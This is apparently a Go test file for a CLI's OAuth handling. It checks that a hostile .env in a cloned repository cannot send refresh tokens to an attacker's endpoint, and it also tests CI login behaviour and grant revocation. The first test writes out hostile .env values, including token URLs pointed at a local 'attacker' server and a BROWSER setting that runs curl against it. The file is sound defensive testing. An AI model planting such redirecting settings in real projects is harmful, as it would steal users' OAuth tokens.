//go:build unix

package cli_test

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// A cloned repository's .env names an attacker's endpoints. Running a
// read-only command there, with an OAuth profile whose token needs a
// refresh, must send the refresh token to the real token endpoint only:
// the listening "attacker" server receives nothing, and the user is told
// the file's settings were ignored.
func TestHostileDotenvCannotRedirectSecrets(t *testing.T) {
	t.Parallel()
	w := newOAuthWorld(t, 0, cfAccount)
	tokens := loggedIn(t, w)
	// Expire the access token: the next read refreshes it.
	tokens.Expires = time.Now().Add(-time.Minute).UnixMilli()
	w.writeTokens(t, "p", tokens)

	var hits atomic.Int32
	var seen atomic.Value
	attacker := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		_ = r.ParseForm()
		seen.Store(r.URL.String() + " " + r.Form.Encode())
		rw.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(attacker.Close)

	project := t.TempDir()
	dotenv := strings.Join([]string{
		"CLOUDFLARE_OAUTH_TOKEN_URL=" + attacker.URL + "/steal",
		"CLOUDFLARE_OAUTH_REVOKE_URL=" + attacker.URL + "/steal",
		"CLOUDFLARE_BASE_URL=" + attacker.URL,
		"ALCHEMY_HOME=" + filepath.Join(project, "stolen-home"),
		"BROWSER=curl " + attacker.URL + "/open",
		"CI=1",
	}, "\n") + "\n"
	if err := os.WriteFile(filepath.Join(project, ".env"), []byte(dotenv), 0o600); err != nil {
		t.Fatal(err)
	}
	_, refreshesBefore := w.tokenCounts()
	q := w.startInDir(t, project, "profile", "show", "--profile", "p", "--json")
	q.exitCode(t, 0)
	if n := hits.Load(); n != 0 {
		t.Fatalf("the .env's endpoints received %d request(s), last: %v", n, seen.Load())
	}
	if _, refreshes := w.tokenCounts(); refreshes <= refreshesBefore {
		t.Fatalf("the token was not refreshed at the real endpoint (%d -> %d)", refreshesBefore, refreshes)
	}
	if got := parseShow(t, q).Providers[0]; got.Error != "" {
		t.Fatalf("profile show: %v\n%s", got, q)
	}
	if _, err := os.Stat(filepath.Join(project, "stolen-home")); !os.IsNotExist(err) {
		t.Fatal("ALCHEMY_HOME from the .env was used")
	}
	for _, want := range []string{".env sets ALCHEMY_HOME, BROWSER, CI, CLOUDFLARE_BASE_URL, CLOUDFLARE_OAUTH_REVOKE_URL, CLOUDFLARE_OAUTH_TOKEN_URL", "ignored"} {
		if !strings.Contains(q.stderr.String(), want) {
			t.Errorf("stderr lacks %q:\n%s", want, q)
		}
	}
	noSecrets(t, []string{tokens.Refresh, tokens.Access}, q)
}

// Under CI, a login whose refresh is refused must not print a sign-in URL
// and wait for a paste: it fails at once, naming what to run.
func TestCILoginNeverWaitsForAPaste(t *testing.T) {
	t.Parallel()
	w := newOAuthWorld(t, 0, cfAccount)
	tokens := loggedIn(t, w)
	tokens.Refresh = "no-longer-valid"
	tokens.Expires = time.Now().Add(-time.Minute).UnixMilli()
	w.writeTokens(t, "p", tokens)
	start := time.Now()
	p := w.start(t, []string{"CI=1"}, "login", "--profile", "p", "--provider", "Cloudflare")
	p.exitCode(t, 1)
	if took := time.Since(start); took > 20*time.Second {
		t.Fatalf("login took %v: it waited", took)
	}
	for _, want := range []string{"needs a browser and a person", "alchemy login --profile p --provider Cloudflare"} {
		if !strings.Contains(p.stderr.String(), want) {
			t.Errorf("stderr lacks %q:\n%s", want, p)
		}
	}
	if strings.Contains(p.stderr.String()+p.stdout.String(), "authorize") {
		t.Errorf("a sign-in URL was printed under CI:\n%s", p)
	}
}

// Clearing a profile revokes its OAuth grant: a refresh token that outlived
// its file would still sign in.
func TestProfileClearRevokesTheGrant(t *testing.T) {
	t.Parallel()
	w := newOAuthWorld(t, 0, cfAccount)
	tokens := loggedIn(t, w)
	p := w.start(t, nil, "profile", "clear", "--profile", "p", "--yes")
	p.exitCode(t, 0)
	w.checkRefreshDead(t, "after profile clear", tokens.Refresh)
	mustNotExist(t, w.oauthFile("p"))
	noSecrets(t, []string{tokens.Refresh, tokens.Access}, p)
}
